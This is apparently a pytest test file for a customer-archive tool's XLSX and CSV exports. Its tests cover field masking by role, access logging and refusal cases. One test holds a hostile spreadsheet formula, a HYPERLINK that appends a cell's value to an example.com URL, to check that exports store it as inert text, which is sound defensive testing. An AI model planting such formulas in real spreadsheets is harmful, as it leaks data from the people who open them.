"""The company's forms out of the archive (issue 14 item 5): 客户基础信息表, 客户分类标签表 and
资料存储目录表 as XLSX and CSV, and list results, opened the way a user would and checked cell by
cell against the archive, as each person may see it."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from conftest import run_cli, staffed_copy
from openpyxl import load_workbook

from custtui.core.access import access_log
from custtui.core.access.policy import PermissionDenied, mask_id_number, mask_phone
from custtui.core.archive.archive import Archive
from custtui.core.base.errors import CusttuiError
from custtui.core.tasks import tables, view

SALES_MASKS_PHONES = ('mask = ["id_number"]\nmay = ["export"]', 'mask = ["id_number", "phones"]\nmay = ["export"]')


@pytest.fixture(scope="module")
def staffed(demo_template, tmp_path_factory):
    """One copy of the demo for the module, with staff (张伟 管理员, 李娜 销售, 王芳 财务, 刘洋 市场,
    赵磊 管理层) and a policy in which 销售 see phones masked, as a company may set it. Tests only
    read it (and append to its access log)."""
    people = (
        ("zhangwei", "张伟", "管理员"),
        ("lina", "李娜", "销售"),
        ("wangfang", "王芳", "财务"),
        ("liuyang", "刘洋", "市场"),
        ("zhaolei", "赵磊", "管理层"),
    )
    archive = staffed_copy(
        demo_template, tmp_path_factory.mktemp("tables"), people, SALES_MASKS_PHONES, "销售看到的电话打码"
    )
    yield archive
    archive.close()


def as_person(archive: Archive, name: str) -> Archive:
    archive.user = name
    return archive


def sheet_rows(path) -> list[list]:
    sheet = load_workbook(path).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def by_id(rows: list[list]) -> dict[str, list]:
    return {row[0]: row for row in rows[1:]}


def test_basic_form_in_xlsx_matches_the_archive_cell_by_cell(staffed, tmp_path):
    archive = as_person(staffed, "赵磊")
    target = tables.export(archive, tables.basic(archive), tmp_path / "基础信息.xlsx")
    book = load_workbook(target)
    sheet = book.active
    assert sheet.title == "客户基础信息表" and sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1]), "the header row is bold"
    assert sheet.column_dimensions["B"].width >= 2 * len("北京华信机械设备制造有限公司"), "wide enough for Chinese"
    rows = sheet_rows(target)
    assert rows[0][:12] == [
        "客户编号",
        "客户名称",
        "统一社会信用代码",
        "行业",
        "规模",
        "联系人",
        "联系人职务",
        "联系电话",
        "地址",
        "首次接触日期",
        "客户类型",
        "负责人",
    ]
    assert sorted(by_id(rows)) == sorted(view.customers(archive)), "one row per customer"
    schema, record = archive.schema(), archive.customer("BJ-000001")
    main = next(c for c in record["contacts"] if c.get("decision_maker"))
    expected = [
        record["id"],
        record["name"],
        record["uscc"],
        schema.label("industry", record["industry"]),
        schema.label("size", record["size"]),
        main["name"],
        main["position"],
        "、".join(main["phones"]),
        record["address"],
        datetime.combine(record["first_contact"], datetime.min.time()),  # a real date cell
        schema.label("customer_type", record["type"]),
        record["owner"],
    ]
    assert by_id(rows)["BJ-000001"][:12] == expected
    person = archive.customer("BJ-000020")
    row = dict(zip(rows[0], by_id(rows)["BJ-000020"], strict=True))
    born = date(int(person["id_number"][6:10]), int(person["id_number"][10:12]), int(person["id_number"][12:14]))
    assert row["性别"] == schema.label("gender", person["gender"]) and row["身份证号"] == person["id_number"]
    assert (
        row["年龄"] == tables.age(person["id_number"], date.today())
        and 0 <= date.today().year - born.year - row["年龄"] <= 1
    )
    codes = {v.code for d in schema.dimensions.values() for v in d.values if v.code != v.label}
    assert not codes & {cell for r in rows for cell in r}, "labels, never codes"


def test_masked_for_sales_unmasked_only_with_the_right_and_logged(staffed, tmp_path):
    person = staffed.customer("BJ-000020")
    archive = as_person(staffed, "李娜")
    sales = by_id(sheet_rows(tables.export(archive, tables.basic(archive), tmp_path / "sales.xlsx")))["BJ-000020"]
    assert sales[7] == "、".join(mask_phone(p) for p in person["phones"])
    assert sales[14] == mask_id_number(person["id_number"]) and sales[13] is None, (
        "no age: the mask hides the birth date"
    )
    written = (tmp_path / "sales.xlsx").read_bytes()
    assert person["phones"][0].encode() not in written and person["id_number"].encode() not in written
    with pytest.raises(PermissionDenied, match="查看未打码的个人信息"):
        tables.basic(archive, unmask=True)
    archive = as_person(staffed, "王芳")
    unmasked = by_id(sheet_rows(tables.export(archive, tables.basic(archive, unmask=True), tmp_path / "fin.xlsx")))
    assert unmasked["BJ-000020"][14] == person["id_number"]
    logged = [(e["action"], e["target"], e["detail"]) for e in access_log.entries(staffed, person="王芳")]
    individuals = sorted(cid for cid, c in view.customers(archive).items() if c.get("id_number"))
    assert ("unmask", "客户基础信息表", f"身份证号 (客户 {'、'.join(individuals)})") in logged, (
        "what was unmasked, whose, once"
    )
    assert (
        "export",
        "客户基础信息表",
        f"{len(unmasked)} 行, {len(unmasked)} 个客户 → {tmp_path / 'fin.xlsx'}",
    ) in logged
    few = tables.export(archive, tables.basic(archive, {"id": "BJ-000020"}), tmp_path / "one.csv")
    assert ("王芳", "export", "客户基础信息表", f"1 行, 客户 BJ-000020 → {few}") in [
        (e["person"], e["action"], e["target"], e["detail"]) for e in access_log.entries(staffed)
    ], "whose data left, by customer"


def test_catalogue_holds_only_the_documents_the_person_may_see(staffed, tmp_path):
    archive = as_person(staffed, "李娜")
    rows = sheet_rows(tables.export(archive, tables.documents(archive), tmp_path / "目录.xlsx"))
    assert rows[0] == list(tables.DOCUMENTS_HEADER)
    mine = {r[2]: r for r in rows[1:] if r[0] == "BJ-000001"}
    assert set(mine) == {d.name for d in view.folder(archive, "BJ-000001").documents}
    statement = next(d for d in staffed.documents("BJ-000001") if d.meta["doc_type"] == "statement")
    assert statement.meta["sensitivity"] == "confidential" and statement.name not in mine, "机密: not for 销售"
    schema = staffed.schema()
    for doc in staffed.documents("BJ-000001"):
        if doc.name in mine:
            row = dict(zip(rows[0], mine[doc.name], strict=True))
            assert row["资料类型"] == schema.doc_types[doc.meta["doc_type"]].label
            assert row["敏感等级"] == schema.label("sensitivity", doc.meta["sensitivity"])
            assert row["资料日期"] == datetime.combine(doc.meta["date"], datetime.min.time())
            assert row["主文件/附件"] == ("附件" if doc.meta.get("main") else "主文件")
            assert row["纸质档案盒号"] == (doc.meta.get("paper_box") or None)
            assert row["档案中的路径"] == f"customers/BJ/000/BJ-000001/docs/{doc.name}"
    archive = as_person(staffed, "王芳")
    assert statement.name in {r[2] for r in tables.documents(archive, {"id": "BJ-000001"}).rows}


def test_tag_table_and_csv_open_in_excel_as_utf8(staffed, tmp_path):
    archive = as_person(staffed, "李娜")
    table = tables.tags(archive, {"行业": "制造业"})
    target = tables.export(archive, table, tmp_path / "标签.csv")
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark: Excel in China reads UTF-8"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == list(tables.TAGS_HEADER) and len(rows) == len(table.rows) + 1
    assert {r[0] for r in rows[1:]} == {c["id"] for c in view.find(archive, {"industry": "manufacturing"})}
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "BJ-000001"), strict=True))
    record = staffed.customer("BJ-000001")
    assert row["组合标签"] in record["tags"], "the demo's own tag is written the same way (制造业-中型-稳定合作)"
    assert row["备注"] == record["remark"] and row["年采购额 (元)"] == record["annual_purchase"]
    assert row["地域"] == staffed.schema().region_label(record["region"])
    sheet = load_workbook(tables.export(archive, table, tmp_path / "标签.xlsx")).active
    amount = sheet.cell(row=1 + [r[0] for r in rows].index("BJ-000001"), column=rows[0].index("年采购额 (元)") + 1)
    assert amount.value == float(record["annual_purchase"]) and amount.number_format == "#,##0.00", "a number"


def test_refusals_write_nothing(staffed, tmp_path):
    archive = as_person(staffed, "李娜")
    taken = tmp_path / "已有.xlsx"
    taken.write_bytes(b"keep")
    with pytest.raises(CusttuiError, match="已存在, 不会覆盖"):
        tables.export(archive, tables.tags(archive), taken)
    assert taken.read_bytes() == b"keep"
    with pytest.raises(CusttuiError, match="请用 .xlsx 或 .csv"):
        tables.export(archive, tables.tags(archive), tmp_path / "x.txt")
    archive = as_person(staffed, "刘洋")
    with pytest.raises(PermissionDenied, match="缺少权限「导出资料」"):
        tables.export(archive, tables.tags(archive), tmp_path / "市场.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["已有.xlsx"]


def test_command_line_table_and_list_out(staffed, tmp_path):
    path = staffed.store.path
    done = run_cli("table", "basic", "--out", tmp_path / "b.xlsx", "--archive", path, "--user", "李娜")
    assert done.code == 0 and "已导出客户基础信息表" in done.out, done.err
    again = run_cli("table", "basic", "--out", tmp_path / "b.xlsx", "--archive", path, "--user", "李娜")
    assert again.code == 1 and "已存在, 不会覆盖" in again.err and "Traceback" not in again.err
    listed = run_cli("list", "--where", "stage=潜在", "--out", tmp_path / "l.csv", "--archive", path, "--user", "李娜")
    assert listed.code == 0, listed.err
    rows = list(csv.reader(io.StringIO((tmp_path / "l.csv").read_text("utf-8-sig"))))
    assert rows[0][:4] == ["客户编号", "客户名称", "客户类型", "合作阶段"]
    assert [r[0] for r in rows[1:]] == [c["id"] for c in staffed.find({"stage": "potential"})]
    assert {r[3] for r in rows[1:]} == {"潜在客户"}


@pytest.mark.indexed
def test_search_out_writes_the_hits_shown(demo, tmp_path):
    found = run_cli("search", "华信", "--limit", "5", "--out", tmp_path / "s.xlsx", "--archive", demo.store.path)
    assert found.code == 0 and "已导出 5 行" in found.out, found.err
    rows = sheet_rows(tmp_path / "s.xlsx")
    assert rows[0][:4] == ["客户编号", "客户名称", "类别", "资料"]
    hits = view.search(demo, "华信", limit=5).hits
    assert [(r[0], r[2], r[3]) for r in rows[1:]] == [
        (h.id, "资料" if h.kind == "document" else "客户", h.document) for h in hits
    ]
    assert all("华信" in r[6] for r in rows[1:]), "with the snippet shown"


def test_text_that_looks_like_a_formula_stays_text(staffed, tmp_path):
    """A name or note arriving from anywhere (a sync, a hand edit) must not run in Excel."""
    archive = as_person(staffed, "赵磊")
    hostile = '=HYPERLINK("http://example.com/?"&A1,"点击")'
    table = tables.Table("客户列表", ("客户编号", "备注"), [["BJ-000001", hostile], ["BJ-000002", "-1+2\x07"]], False)
    cells = load_workbook(tables.export(archive, table, tmp_path / "f.xlsx")).active["B"]
    assert [(c.value, c.data_type) for c in cells[1:]] == [(hostile, "s"), ("-1+2", "s")], "no bell either"
    rows = list(csv.reader(io.StringIO(tables.export(archive, table, tmp_path / "f.csv").read_text("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + hostile, "'-1+2\x07"]


def test_a_broken_record_is_named_not_half_shown(archive, tmp_path):
    good, _ = archive.add_customer("个人", "周晓梅", {"phones": ["13800001111"], "owner": "张伟"})
    bad, _ = archive.add_customer("个人", "郑海涛", {"phones": ["13800002222"], "owner": "张伟"})
    path = f"customers/BJ/000/{bad}/customer.toml"
    broken = archive.store.read(archive.head(), path).decode().replace('owner = "张伟"', "owner = 张伟")
    archive.store.transact(lambda head: ({path: broken.encode()}, "手工编辑"), archive.identity())
    table = tables.tags(archive)
    assert [row[0] for row in table.rows] == [good] and table.skipped == (bad,)
    assert tables.basic(archive, {"name": "无此人"}).rows == []
    shown = run_cli("table", "tags", "--archive", archive.store.path)
    assert shown.code == 0 and f"{bad} 的记录已损坏, 未列入表中" in shown.err and "共 1 行" in shown.out
    assert shown.out.splitlines()[0].split("\t") == list(tables.TAGS_HEADER)
